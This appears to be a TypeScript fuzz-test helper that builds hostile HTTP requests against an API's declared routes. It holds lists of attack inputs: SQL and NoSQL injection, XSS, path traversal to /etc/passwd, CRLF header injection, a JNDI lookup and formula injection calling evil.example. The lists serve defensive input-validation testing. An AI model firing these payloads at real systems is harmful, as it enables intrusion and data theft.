/**
 * fast-check arbitraries for the fuzz tests: hostile strings, JSON bodies mutated from a valid
 * seed, broken JSON, path segments and query strings, and requests built from a route of
 * infra/routes.ts — so that a new route is fuzzed as soon as it is declared.
 */
import fc from 'fast-check';
import type { RouteDefinition } from '../../infra/routes.js';
import { MAX_BODY_BYTES } from '../../shared/http/api-handler.js';
import { type FuzzBody, type FuzzRequest, pathParameterNames } from './fuzz.js';

/** Bidirectional controls, zero-width and other invisible characters, emoji, surrogates, controls. */
export const UNICODE_EDGES: readonly string[] = [
  '\u200F', // right-to-left mark
  '\u202E', // right-to-left override
  '\u200E\u202Aabc\u202C',
  '\u2066\u2067\u2068\u2069',
  '\u200B', // zero-width space
  '\u200C\u200D',
  '\uFEFF',
  '\u2060',
  '\u00AD',
  '😀',
  '👨‍👩‍👧‍👦',
  '🇹🇷🇸🇾',
  '👍🏽',
  '\uD83D\uDE00',
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  'a\uDC00b',
  '\uDBFF\uDFFF',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008',
  '\u001B[31mred',
  '\u007F',
  '\u0085',
  '\u2028\u2029',
  'e\u0301\u0301\u0301',
  'Z\u0337\u0322\u031Ba\u0335l\u0334g\u0337o',
  'İıŞşĞğ',
  'ﷺ',
  'مرحبا بكم في جسر',
  'שלום',
  '\u3000',
  '\u00A0',
  '\r\n',
  '\t',
  ' ',
  '',
];

/** SQL, NoSQL and DynamoDB expression fragments, markup, traversal, header injection, templates. */
export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE referrals; --",
  '" OR ""="',
  '1; SELECT * FROM needs',
  '{"$gt": ""}',
  '{"$ne": null}',
  '$where',
  'attribute_exists(pk)',
  '#pk = :pk OR begins_with(sk, :s)',
  ':v',
  '#n',
  'REFERRAL#',
  'NEED#01ARZ3NDEKTSV4RRFFQ69G5FAV',
  'IDEMPOTENCY#report-need',
  'CONFIG',
  'SLA_DUE',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '..%252f',
  'a\r\nSet-Cookie: jisr=1',
  '%0d%0aLocation:%20http://evil.example',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection string, sent as is
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection string, sent as is
  '${7*7}',
  '%s%s%s%n',
  '=HYPERLINK("http://evil.example")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
];

const EDGE_AND_INJECTION = [...UNICODE_EDGES, ...INJECTIONS];

/** A hostile short string. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...EDGE_AND_INJECTION) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...EDGE_AND_INJECTION),
        fc.string({ maxLength: 12 }),
        fc.constantFrom(...EDGE_AND_INJECTION),
      )
      .map(([before, middle, after]) => `${before}${middle}${after}`),
  },
);

/** Strings around and over the limits of free text (100, 1000, 2000) and of a body (32 KiB). */
export const oversizeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('x', 'ع', '😀', '\u200F', 'İ', ' '), fc.constantFrom(100, 101, 1001, 2001, 9_000))
  .map(([unit, count]) => unit.repeat(count));

const RAW_NUMBER = /"@@raw:(.*?)@@"/g;
/** A placeholder replaced by a raw JSON number literal once serialized (JSON.stringify cannot write 1e400). */
const rawNumber = (literal: string) => `@@raw:${literal}@@`;

/** Any value of the wrong type, or of the right type with hostile content. */
export const junkValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: oversizeString },
  { weight: 1, arbitrary: fc.integer() },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      0,
      -1,
      1.5,
      2 ** 53 + 2,
      -1e308,
      1e308,
      true,
      false,
      null,
      [],
      {},
      [null],
      { $gt: '' },
      { $ne: null },
      { S: 'x' },
      { '#pk': ':pk' },
      rawNumber('1e400'),
      rawNumber('-0'),
      rawNumber('1E-400'),
      rawNumber('123456789012345678901234567890'),
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
);

/** Field names a body must refuse (prototype keys and table attributes among them). */
export const unknownKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'pk',
    'sk',
    'version',
    'status',
    '$where',
    'id',
    '',
  ),
  hostileString,
);

type JsonPath = readonly (string | number)[];

function pathsOf(value: unknown, path: JsonPath = []): JsonPath[] {
  const paths: JsonPath[] = [path];
  if (Array.isArray(value)) {
    for (const [index, item] of value.entries()) paths.push(...pathsOf(item, [...path, index]));
  } else if (value !== null && typeof value === 'object')
    for (const [key, item] of Object.entries(value)) paths.push(...pathsOf(item, [...path, key]));
  return paths;
}

function at(document: unknown, path: JsonPath): unknown {
  return path.reduce<unknown>((value, key) => (value as Record<string | number, unknown>)?.[key], document);
}

/** Sets an own property even for "__proto__" (as JSON.parse does), so it reaches the JSON text. */
function define(target: Record<string | number, unknown>, key: string | number, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

interface Mutation {
  readonly op: 'replace' | 'delete' | 'unknown-key' | 'wrap' | 'retype';
  readonly at: number;
  readonly value: unknown;
  readonly key: string;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom('replace', 'replace', 'replace', 'delete', 'unknown-key', 'wrap', 'retype'),
  at: fc.nat(),
  value: junkValue,
  key: unknownKey,
});

/** The same value as another JSON type: "5" for 5, 1 for true, "…" for an object. */
function retyped(value: unknown): unknown {
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean') return value ? 1 : 'true';
  if (typeof value === 'string') return Number.isNaN(Number(value)) ? [value] : Number(value);
  if (value === null) return 'null';
  return JSON.stringify(value);
}

function applyMutation(document: unknown, change: Mutation): { document: unknown; note: string } {
  const paths = pathsOf(document);
  const path = paths[change.at % paths.length] as JsonPath;
  const where = path.length === 0 ? '(body)' : path.join('.');
  const parentPath = path.slice(0, -1);
  const parent = at(document, parentPath) as Record<string | number, unknown> | unknown[] | undefined;
  const last = path[path.length - 1];
  const set = (value: unknown) => {
    if (path.length === 0) return value;
    define(parent as Record<string | number, unknown>, last as string | number, value);
    return document;
  };
  switch (change.op) {
    case 'replace':
      return { document: set(change.value), note: `replace ${where}` };
    case 'retype':
      return { document: set(retyped(at(document, path))), note: `retype ${where}` };
    case 'wrap':
      return { document: set([at(document, path)]), note: `wrap ${where}` };
    case 'delete':
      if (path.length === 0) return { document: undefined, note: 'delete (body)' };
      if (Array.isArray(parent)) parent.splice(last as number, 1);
      else delete (parent as Record<string | number, unknown>)[last as string];
      return { document, note: `delete ${where}` };
    case 'unknown-key': {
      const target = at(document, path);
      if (target === null || typeof target !== 'object' || Array.isArray(target))
        return { document: set(change.value), note: `replace ${where}` };
      define(target as Record<string, unknown>, change.key, change.value);
      return { document, note: `add ${where}.${JSON.stringify(change.key).slice(0, 40)}` };
    }
  }
}

export const toJsonText = (document: unknown) =>
  (JSON.stringify(document) ?? '').replace(RAW_NUMBER, (_, literal: string) => literal);

/** A body: the JSON text of a value, as UTF-8. */
const json = (document: unknown): Buffer => Buffer.from(toJsonText(document), 'utf8');

export interface BodyChoice {
  readonly body: FuzzBody | undefined;
  readonly note: string;
}

/** Broken JSON made from a valid body (truncated, trailing junk, BOM, comments...) or from nothing. */
function malformed(seedText: string): fc.Arbitrary<BodyChoice> {
  const text = (note: string, value: string): BodyChoice => ({ body: Buffer.from(value, 'utf8'), note });
  return fc.oneof(
    fc.nat({ max: Math.max(0, seedText.length - 1) }).map((cut) => text('truncated', seedText.slice(0, cut))),
    fc.constantFrom<BodyChoice>(
      text('trailing brace', `${seedText}}`),
      text('trailing junk', `${seedText} garbage`),
      text('two documents', `${seedText}${seedText}`),
      text('byte order mark', `\uFEFF${seedText}`),
      text('single quotes', seedText.replaceAll('"', "'")),
      text('a comment', `// note\n${seedText}`),
      text('NaN', '{"expectedVersion": NaN}'),
      text('trailing comma', '{"a":1,}'),
      text('unclosed', '[1,2'),
      text('bare word', 'nul'),
      text('empty', ''),
      text('whitespace', ' \n\t '),
      text('null', 'null'),
      text('true', 'true'),
      text('string', '"a string"'),
      text('number', '123'),
      text('deep arrays', `${'['.repeat(15_000)}${']'.repeat(15_000)}`),
      text('deep objects', `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
      text('duplicate keys', seedText.replace(/^\{/, '{"__proto__":{"admin":true},"constructor":1,')),
      { body: Buffer.from(seedText, 'utf16le'), note: 'UTF-16' },
      {
        body: Buffer.concat([
          Buffer.from(seedText.slice(0, -1), 'utf8'),
          Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
        ]),
        note: 'invalid UTF-8',
      },
      { body: Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]), note: 'overlong and surrogate UTF-8' },
      {
        body: Buffer.from(seedText.replace(/"([^"]*)"/, '"$1\u0000"'), 'utf8'),
        note: 'raw NUL in a string',
      },
    ),
  );
}

/** A body for a route with a body schema: a valid seed, a mutated one, junk, broken or oversize. */
export function bodyChoice(seeds: readonly unknown[]): fc.Arbitrary<BodyChoice> {
  const seedArbitrary = fc.constantFrom(...(seeds.length === 0 ? [{}] : seeds));
  return fc.oneof(
    { weight: 3, arbitrary: seedArbitrary.map((seed) => ({ body: json(seed), note: 'seed' })) },
    {
      weight: 10,
      arbitrary: fc
        .tuple(seedArbitrary, fc.array(mutation, { minLength: 1, maxLength: 3 }))
        .map(([seed, changes]) => {
          let document: unknown = structuredClone(seed);
          const notes: string[] = [];
          for (const change of changes) {
            const applied = applyMutation(document, change);
            document = applied.document;
            notes.push(applied.note);
          }
          return { body: document === undefined ? undefined : json(document), note: notes.join(', ') };
        }),
    },
    {
      weight: 1,
      arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => ({ body: json(value), note: 'random JSON' })),
    },
    { weight: 2, arbitrary: seedArbitrary.chain((seed) => malformed(toJsonText(seed))) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(MAX_BODY_BYTES, MAX_BODY_BYTES + 1, 100_000, 1_000_000)
        .map((size) => ({ body: { filler: size }, note: `${size} bytes` })),
    },
  );
}

// --- Path segments and query strings ---

/** Percent-encodes UTF-8, and lone surrogates as the bytes a lax encoder would send (%ED%A0%80). */
export function encodeComponent(value: string): string {
  let encoded = '';
  for (const char of value) {
    const code = char.codePointAt(0) as number;
    if (code >= 0xd800 && code <= 0xdfff) {
      encoded += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((byte) => `%${byte.toString(16).toUpperCase()}`)
        .join('');
    } else {
      encoded += encodeURIComponent(char);
    }
  }
  return encoded;
}

/** Path segments sent as they are: traversal, encoded separators and controls, broken escapes. */
export const RAW_SEGMENTS: readonly string[] = [
  '..',
  '.',
  '../me',
  '..%2fcatalog',
  '%2e%2e',
  '%2e%2e%2f%2e%2e%2fme',
  '..;',
  '%00',
  '%0d%0aSet-Cookie:%20jisr=1',
  '%0D%0ALocation:%20http://evil.example',
  '%ZZ',
  '%',
  '%E0%A4%A',
  '%ED%A0%80',
  '%FF%FE',
  '%C0%AF',
  "'%20OR%20'1'='1",
  '<script>alert(1)</script>',
  '{id}',
  '*',
  '$',
  'a?b=c',
  'a#fragment',
  'x/y',
  '%2F',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV%00',
  '01arz3ndektsv4rrffq69g5fav',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV/',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV%20',
  '01ARZ3NDEKTSV4RRFFQ69G5FAVX',
  'risk-',
  'hotspot-01ARZ3NDEKTSV4RRFFQ69G5FAV',
  'migration-desk',
  'HEALTH',
];

/** A path parameter: a known good value (encoded), another valid-looking id, or a hostile one. */
export function pathSegment(known: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    {
      weight: known.length === 0 ? 0 : 8,
      arbitrary: fc.constantFrom(...(known.length === 0 ? [''] : known)),
    },
    { weight: 2, arbitrary: fc.ulid() },
    { weight: 3, arbitrary: hostileString.map(encodeComponent) },
    { weight: 1, arbitrary: oversizeString.map((value) => encodeComponent(value.slice(0, 300))) },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_SEGMENTS) },
  );
}

/** Values a query parameter must cope with: numbers in odd forms, hostile strings, cursors of elsewhere. */
export function queryValue(cursors: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '0',
        '-1',
        '101',
        '1.5',
        '1e3',
        '1e1',
        '0x10',
        ' 5',
        '5 ',
        'Infinity',
        'NaN',
        '',
        '9'.repeat(400),
        'true',
        '[]',
        '2026-02-30',
        '2026-13-01',
        '9999-12-31',
        '0000-01-01',
        '2026-Q5',
        '2026-Q0',
        '-2026-Q1',
      ),
    },
    { weight: 4, arbitrary: hostileString },
    { weight: 1, arbitrary: oversizeString.map((value) => value.slice(0, 2_100)) },
    {
      weight: cursors.length === 0 ? 0 : 2,
      arbitrary: fc.constantFrom(...(cursors.length === 0 ? [''] : cursors)),
    },
    { weight: 1, arbitrary: fc.base64String({ maxLength: 200 }) },
  );
}

/** Query text appended as is: broken escapes, separators, array and operator syntax, CRLF. */
const RAW_QUERY_PARTS: readonly string[] = [
  '&&&',
  '=',
  'limit',
  'limit=',
  '%',
  '%ZZ=1',
  'cursor=%ED%A0%80',
  'limit=%0d%0aSet-Cookie:%20jisr=1',
  'status[]=routed',
  'status[$ne]=x',
  'limit=5;status=routed',
  'limit=5&limit=6',
  'a=1&a=2&a=3',
  '__proto__[admin]=1',
  'constructor[prototype][admin]=1',
  'limit=%00',
  '+=+',
];

interface QueryMutation {
  readonly op: 'drop' | 'replace' | 'add' | 'repeat' | 'raw';
  readonly at: number;
  readonly value: string;
  readonly key: string;
  readonly raw: string;
}

/** A query string: a valid seed with a few changes, encoded (and sometimes not quite). */
export function queryString(
  seeds: readonly Query[],
  cursors: readonly string[],
): fc.Arbitrary<{ query: string; note: string }> {
  const change: fc.Arbitrary<QueryMutation> = fc.record({
    op: fc.constantFrom('drop', 'replace', 'replace', 'replace', 'add', 'repeat', 'raw'),
    at: fc.nat(),
    value: queryValue(cursors),
    key: fc.oneof(
      fc.constantFrom('limit', 'cursor', 'status', 'unitId', 'from', 'to', 'groupBy', 'type', 'lang', 'x'),
      unknownKey,
    ),
    raw: fc.constantFrom(...RAW_QUERY_PARTS),
  });
  return fc
    .tuple(fc.constantFrom(...(seeds.length === 0 ? [{}] : seeds)), fc.array(change, { maxLength: 3 }))
    .map(([seed, changes]) => {
      let pairs = queryPairs(seed);
      const raw: string[] = [];
      const notes: string[] = [];
      for (const item of changes) {
        const index = pairs.length === 0 ? -1 : item.at % pairs.length;
        const name = index < 0 ? item.key : (pairs[index] as [string, string])[0];
        if (item.op === 'drop' && index >= 0) {
          pairs = pairs.filter((_, position) => position !== index);
          notes.push(`drop ${name}`);
        } else if (item.op === 'replace' && index >= 0) {
          pairs[index] = [name, item.value];
          notes.push(`replace ${name}`);
        } else if (item.op === 'repeat' && index >= 0) {
          pairs.push([name, item.value]);
          notes.push(`repeat ${name}`);
        } else if (item.op === 'raw') {
          raw.push(item.raw);
          notes.push(`raw ${item.raw}`);
        } else {
          pairs.push([item.key, item.value]);
          notes.push(`add ${item.key.slice(0, 20)}`);
        }
      }
      const parts = [
        ...pairs.map(([name, value]) => `${encodeComponent(name)}=${encodeComponent(value)}`),
        ...raw,
      ];
      return { query: parts.length === 0 ? '' : `?${parts.join('&')}`, note: notes.join(', ') };
    });
}

// --- Requests from the route table ---

/** Valid examples a route's fuzzing starts from; every field optional. */
export interface RouteSeeds {
  /** Known good values of each path parameter, already encoded. */
  readonly params?: Readonly<Record<string, readonly string[]>>;
  readonly queries?: readonly Query[];
  readonly bodies?: readonly unknown[];
}

/** Query parameters (an undefined value is left out). */
export type Query = Readonly<Record<string, string | undefined>>;

/** A query's parameters without the undefined ones. */
export const queryPairs = (query: Query): [string, string][] =>
  Object.entries(query).filter((pair): pair is [string, string] => pair[1] !== undefined);

/** Header values Node will send (no CR, LF or NUL; Latin-1 only). */
export const headerSafe = (value: string) => /^[\t\x20-\x7e\x80-\xff]*$/.test(value);

const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json-patch+json',
  'application/problem+json',
  'application/jsonx',
  'json',
  '',
] as const;

const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 14, arbitrary: fc.constant('application/json') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json;charset=utf-16',
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom<string | undefined>(undefined, ...CONTENT_TYPES) },
);

const idempotencyKey: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 12, arbitrary: fc.uuid() },
  {
    weight: 3,
    arbitrary: fc.constantFrom<string | undefined>(
      undefined,
      '',
      'my key',
      'k'.repeat(100),
      'k'.repeat(101),
      'a:b.c-d_e',
      "'; DROP TABLE x; --",
      '../../etc/passwd',
      '%0d%0a',
      'clé',
    ),
  },
  { weight: 1, arbitrary: hostileString.filter(headerSafe) },
);

const OTHER_METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'] as const;

/** One request to a route: who sends it (any token the caller makes), to which path, with what. */
export function routeRequest(
  route: RouteDefinition,
  seeds: RouteSeeds,
  options: {
    /** The Authorization header (or none), and a name for it in reports. */
    readonly authorization: fc.Arbitrary<{ header: string | undefined; name: string }>;
    /** Cursors to offer list routes, from other callers and other lists. */
    readonly cursors: readonly string[];
    /** Mutate bodies and queries (the input fuzz); otherwise send the seeds as they are. */
    readonly mutate: boolean;
  },
): fc.Arbitrary<FuzzRequest> {
  const parameters = pathParameterNames(route);
  const segments = fc.tuple(
    ...parameters.map((name) => {
      const known = seeds.params?.[name] ?? [];
      return options.mutate || known.length === 0 ? pathSegment(known) : fc.constantFrom(...known);
    }),
  );
  const declaresHeader = (name: string) =>
    (route.request?.headers ?? []).some((header) => header.name.toLowerCase() === name);
  const body: fc.Arbitrary<BodyChoice> =
    route.request?.body === undefined
      ? fc.constant({ body: undefined, note: '' })
      : options.mutate
        ? bodyChoice(seeds.bodies ?? [])
        : fc.constantFrom(...(seeds.bodies ?? [{}])).map((seed) => ({ body: json(seed), note: 'seed' }));
  const query =
    route.request?.query === undefined
      ? fc.oneof(
          { weight: 9, arbitrary: fc.constant({ query: '', note: '' }) },
          { weight: 1, arbitrary: queryString([{}], options.cursors) },
        )
      : options.mutate
        ? queryString(seeds.queries ?? [], options.cursors)
        : fc.constantFrom(...(seeds.queries ?? [{}])).map((seed) => ({
            query: queryPairs(seed).length === 0 ? '' : `?${new URLSearchParams(queryPairs(seed))}`,
            note: '',
          }));
  const method = options.mutate
    ? fc.oneof(
        { weight: 24, arbitrary: fc.constant(route.method as string) },
        { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) },
      )
    : fc.constant(route.method as string);
  return fc
    .record({
      segments,
      body,
      query,
      method,
      authorization: options.authorization,
      contentType: route.request?.body === undefined ? fc.constant(undefined) : contentType,
      idempotencyKey: declaresHeader('idempotency-key') ? idempotencyKey : fc.constant(undefined),
      acceptLanguage: declaresHeader('accept-language')
        ? fc.oneof(
            fc.constantFrom('ar', 'tr', 'en', 'fr', '*', 'ar;q=0.1, tr;q=0.9', ''),
            hostileString.filter(headerSafe),
          )
        : fc.constant(undefined),
    })
    .map((choice) => {
      let index = 0;
      const path =
        route.path.replace(/\{[a-zA-Z]+\}/g, () => choice.segments[index++] as string) + choice.query.query;
      const headers: Record<string, string> = {};
      if (choice.authorization.header !== undefined) headers.authorization = choice.authorization.header;
      if (choice.body.body !== undefined && choice.contentType !== undefined)
        headers['content-type'] = choice.contentType;
      if (choice.idempotencyKey !== undefined) headers['idempotency-key'] = choice.idempotencyKey;
      if (choice.acceptLanguage !== undefined) headers['accept-language'] = choice.acceptLanguage;
      const notes = [choice.body.note, choice.query.note].filter((note) => note !== '').join('; ');
      const label = `${choice.method} ${path.length > 160 ? `${path.slice(0, 160)}…` : path} as ${
        choice.authorization.name
      }${notes === '' ? '' : ` [${notes}]`}${headers['content-type'] === undefined ? '' : ` (${headers['content-type']})`}`;
      return labelled({
        label,
        caller: choice.authorization.name,
        method: choice.method,
        path,
        headers,
        ...(choice.body.body === undefined ? {} : { body: choice.body.body }),
      });
    });
}

/** A batch of requests, which fast-check prints by its size (the defects name the requests). */
export interface FuzzBatch {
  readonly requests: readonly FuzzRequest[];
}

export function batchOf(requests: readonly FuzzRequest[]): FuzzBatch {
  const batch = { requests };
  Object.defineProperty(batch, fc.toStringMethod, {
    value: () => `a batch of ${requests.length} requests`,
    enumerable: false,
  });
  return batch;
}

/** A request fast-check prints by its label (never a 10 MB body). */
export function labelled(request: FuzzRequest): FuzzRequest {
  Object.defineProperty(request, fc.toStringMethod, { value: () => request.label, enumerable: false });
  return request;
}
